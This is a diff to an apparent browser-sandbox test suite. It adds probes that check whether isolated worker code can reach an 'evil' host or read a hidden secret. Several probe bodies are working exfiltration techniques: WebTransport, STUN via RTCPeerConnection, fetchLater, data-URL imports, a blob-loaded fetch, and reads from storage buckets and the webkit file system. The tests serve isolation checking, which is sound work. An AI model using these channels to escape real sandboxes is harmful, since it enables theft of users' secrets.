@@ -24,11 +24,38 @@ const probes: readonly (readonly [name: string, seen: Seen, body: string])[] = [
     "elsewhere",
     `const s = new WebSocketStream(u(evil, "websocket-stream").replace("http", "ws")); await s.opened`,
   ],
+  ["websocket-home", "home", `new WebSocket(u(home, "websocket-home").replace("http", "ws")); await wait(400)`],
+  [
+    "webtransport",
+    "elsewhere",
+    `const t = new WebTransport(u(evil, "webtransport").replace("http:", "https:")); await Promise.race([t.ready, wait(1000)])`,
+  ],
+  [
+    "rtc",
+    "elsewhere",
+    `const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + new URL(evil).host }] }); c.createDataChannel("x"); await c.setLocalDescription(await c.createOffer()); await wait(800)`,
+  ],
+  ["fetch-later", "elsewhere", `fetchLater(u(evil, "fetch-later"), { activateAfter: 0 }); await wait(400)`],
   ["eventsource", "elsewhere", `const s = new EventSource(u(evil, "eventsource")); await wait(400); s.close()`],
   ["importscripts", "elsewhere", `importScripts(u(evil, "importscripts"))`],
   ["import-function", "elsewhere", `await Function("a", "return import(a)")(u(evil, "import-function"))`],
   ["import-eval", "elsewhere", `await (0, eval)("import(" + JSON.stringify(u(evil, "import-eval")) + ")")`],
   ["import-home", "home", `await Function("a", "return import(a)")(u(home, "import-home"))`],
+  [
+    "import-data",
+    "elsewhere",
+    `await Function("a", "return import(a)")("data:text/javascript,import " + JSON.stringify(u(evil, "import-data")))`,
+  ],
+  [
+    "import-json",
+    "elsewhere",
+    `await Function("a", "return import(a, { with: { type: 'json' } })")(u(evil, "import-json"))`,
+  ],
+  [
+    "importscripts-blob",
+    "elsewhere",
+    `const text = "fetch(" + JSON.stringify(u(evil, "importscripts-blob")) + ", { mode: 'no-cors' }).catch(() => 0)"; importScripts(URL.createObjectURL(new Blob([text]))); await wait(300)`,
+  ],
   [
     "import-timer",
     "elsewhere",
@@ -77,6 +104,16 @@ const probes: readonly (readonly [name: string, seen: Seen, body: string])[] = [
     `const d = await navigator.storage.getDirectory(); return await (await (await d.getFileHandle("secret")).getFile()).text()`,
   ],
   [
+    "storage-buckets",
+    "secret",
+    `const b = await navigator.storageBuckets.open("secret"); return await (await (await b.caches.open("secret")).match(home + "/k")).text()`,
+  ],
+  [
+    "file-system",
+    "secret",
+    `const s = webkitRequestFileSystemSync(0, 1024); return new FileReaderSync().readAsText(s.root.getFile("secret", {}).file())`,
+  ],
+  [
     "broadcast",
     "secret",
     `return await new Promise((done) => { const b = new BroadcastChannel("secret"); b.onmessage = (e) => done(e.data); b.postMessage("ask"); })`,
@@ -88,6 +125,8 @@ const probes: readonly (readonly [name: string, seen: Seen, body: string])[] = [
 
 /** Probes whose way does not exist in any worker of this browser; the control shows that it does not. */
 export const absent: ReadonlySet<string> = new Set([
+  "rtc",
+  "fetch-later",
   "beacon",
   "shared-worker",
   "service-worker",
@@ -157,6 +196,27 @@ export async function hideSecret(secret: string): Promise<void> {
   const file = await (await directory.getFileHandle("secret", { create: true })).createWritable();
   await file.write(secret);
   await file.close();
+  const { storageBuckets } = navigator as unknown as {
+    storageBuckets: { open(name: string): Promise<{ caches: CacheStorage }> };
+  };
+  const bucket = await storageBuckets.open("secret");
+  await (await bucket.caches.open("secret")).put(`${location.origin}/k`, new Response(secret));
+  await new Promise<void>((done, fail) => {
+    const { webkitRequestFileSystem: open } = window as unknown as {
+      webkitRequestFileSystem(kind: number, size: number, use: (system: FileSystem) => void, fail: () => void): void;
+    };
+    const use = ({ root }: FileSystem) =>
+      root.getFile("secret", { create: true }, (entry) => {
+        type Writable = {
+          createWriter(use: (writer: { onwriteend: () => void; write(blob: Blob): void }) => void): void;
+        };
+        (entry as unknown as Writable).createWriter((writer) => {
+          writer.onwriteend = () => done();
+          writer.write(new Blob([secret]));
+        });
+      });
+    open(0, 1024, use, () => fail(new Error("no file system")));
+  });
   new BroadcastChannel("secret").onmessage = ({ target }) => (target as BroadcastChannel).postMessage(secret);
   navigator.locks.request(secret, () => new Promise(() => undefined));
   // biome-ignore lint/suspicious/noDocumentCookie: it is what a cell must not read
